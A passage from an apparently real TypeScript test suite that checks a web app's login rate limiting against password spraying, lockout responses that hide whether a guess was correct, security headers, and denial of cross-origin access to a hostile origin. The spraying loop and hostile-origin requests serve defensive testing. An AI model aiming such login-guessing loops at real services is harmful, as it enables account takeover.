            method: 'POST',
            url: '/api/auth/login',
            payload: { email, password: 'Guess-password-1' },
            remoteAddress,
          });
        const codes: number[] = [];
        for (let i = 0; i < 40; i++) codes.push((await attempt(`user${i}@spray.example`, '203.0.113.7')).statusCode);
        expect(codes.slice(0, 3)).toEqual([401, 401, 401]);
        expect(codes).toContain(429);
        const firstLimited = codes.indexOf(429);
        expect(codes.slice(firstLimited).every((c) => c === 429)).toBe(true);
        expect(firstLimited).toBeLessThan(40);
        const elsewhere = await attempt('user0@spray.example', '198.51.100.9');
        expect(elsewhere.statusCode).toBe(401);
      } finally {
        await limited.close();
      }
    });

    it('gives no hint during a lockout whether a guessed password was right', async () => {
      const locking = await startTestApp({ LOGIN_MAX_FAILURES: '3' });
      try {
        const owner = await locking.setup('Lockout Co.');
        const victim = await locking.userWithRole(owner, 'sales_rep');
        const attempt = (password: string) =>
          locking.request('POST', '/api/auth/login', { body: { email: victim.email, password } });
        for (let i = 0; i < 3; i++) expect((await attempt(`Wrong-guess-${i}x`)).statusCode).toBe(401);
        const wrong = await attempt('Another-guess-9');
        const right = await attempt(testPassword);
        expect(right.statusCode).toBe(423);
        expect(wrong.statusCode).toBe(right.statusCode);
        expect(wrong.json().code).toBe(right.json().code);
        expect(wrong.json().detail).toBe(right.json().detail);
        const unknown = await locking.request('POST', '/api/auth/login', {
          body: { email: 'nobody@lockout.example', password: 'Another-guess-9' },
        });
        expect(unknown.statusCode).toBe(401);
      } finally {
        await locking.close();
      }
    });
  });

  describe('security headers', () => {
    const expectSecurityHeaders = (response: LightMyRequestResponse, label: string) => {
      const csp = String(response.headers['content-security-policy'] ?? '');
      expect(csp, label).toContain("default-src 'self'");
      expect(csp, label).toContain("frame-ancestors 'none'");
      expect(csp, label).toContain("object-src 'none'");
      expect(csp, label).toMatch(/script-src 'self'(;|$)/);
      expect(response.headers['x-frame-options'], label).toMatch(/^(DENY|SAMEORIGIN)$/);
      expect(response.headers['x-content-type-options'], label).toBe('nosniff');
      expect(response.headers['referrer-policy'], label).toBe('no-referrer');
      expect(response.headers['x-powered-by'], label).toBeUndefined();
    };

    it('are sent on console pages, API answers, errors, files and health checks alike', async () => {
      const customer = (await t.request('POST', '/api/customers', { as: admin, body: { name: 'Headers Ltd' } })).json();
      const file = (await upload(t, admin, customer.id, pdfBytes, 'h.pdf')).json();
      const answers: [string, LightMyRequestResponse][] = [
        ['console root', await t.request('GET', '/')],
        ['console login page', await t.request('GET', '/login')],
        ['console deep link', await t.request('GET', `/customers/${customer.id}?tab=timeline`)],
        ['API answer', await t.request('GET', '/api/customers', { as: admin })],
        ['401', await t.request('GET', '/api/customers')],
        ['403', await t.request('POST', '/api/teams', { headers: { cookie: admin.cookie }, body: { name: 'x' } })],
        ['404', await t.request('GET', '/api/nothing')],
        ['422', await t.request('POST', '/api/teams', { as: admin, body: {} })],
        ['file download', await download(file.id)],
        ['health', await t.request('GET', '/healthz')],
        ['metrics', await t.request('GET', '/metrics')],
        ['OpenAPI', await t.request('GET', '/api/openapi.json')],
      ];
      for (const [label, response] of answers) expectSecurityHeaders(response, label);
    });

    it('keep the API docs page out of frames too', async () => {
      const docs = await t.request('GET', '/api/docs/');
      expect(docs.statusCode).toBe(200);
      expect(docs.headers['x-frame-options']).toMatch(/^(DENY|SAMEORIGIN)$/);
      expect(docs.headers['x-content-type-options']).toBe('nosniff');
      expect(String(docs.headers['content-security-policy'])).toMatch(/frame-ancestors 'none'|frame-ancestors 'self'/);
    });

    it('grants no cross-origin access', async () => {
      const origin = 'https://evil.example';
      const preflight = await t.app.inject({
        method: 'OPTIONS',
        url: '/api/customers',
        headers: { origin, 'access-control-request-method': 'POST', 'access-control-request-headers': 'x-csrf-token' },
      });
      expect(preflight.headers['access-control-allow-origin']).toBeUndefined();
      expect(preflight.headers['access-control-allow-credentials']).toBeUndefined();
      const read = await t.request('GET', '/api/me', { as: admin, headers: { origin } });
      expect(read.headers['access-control-allow-origin']).toBeUndefined();
    });
  });
});
